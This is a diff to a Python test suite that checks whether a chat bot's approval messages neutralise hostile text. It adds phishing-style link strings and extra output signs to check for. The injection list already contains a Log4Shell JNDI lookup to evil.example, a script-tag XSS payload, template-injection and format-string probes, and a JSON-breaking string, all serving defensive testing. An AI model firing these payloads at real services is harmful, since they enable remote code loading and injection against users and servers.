@@ -149,7 +149,7 @@ def test_hostile_texts_are_shown_and_do_nothing(chat: Chat) -> None:
         assert [label for label, _ in shown_buttons(chat)] == ["Approve", "Reject"], text
         if chat.theirs.kind is not RobotKind.WEBHOOK:
             shown = "\n".join(texts(message.body))
-            for sign in ("<at", "<@", "](http://evil", "\u202e", "\x1b", "<font", "![", "\r"):
+            for sign in ("<at", "<@", "](http://evil", "\u202e", "\x1b", "<font", "![", "\r", "://evil", "www."):
                 assert sign not in shown, text
 
 
@@ -171,6 +171,8 @@ INJECTIONS = (
     "{{7*7}} ${jndi:ldap://evil.example/a} %s %n",
     "</script><script>alert(1)</script>",
     '","msgtype":"text","x":"',
+    "log in at www.evil.example/a now",
+    "WWW.evil.example",
     "x" * 100_000,
 )
 
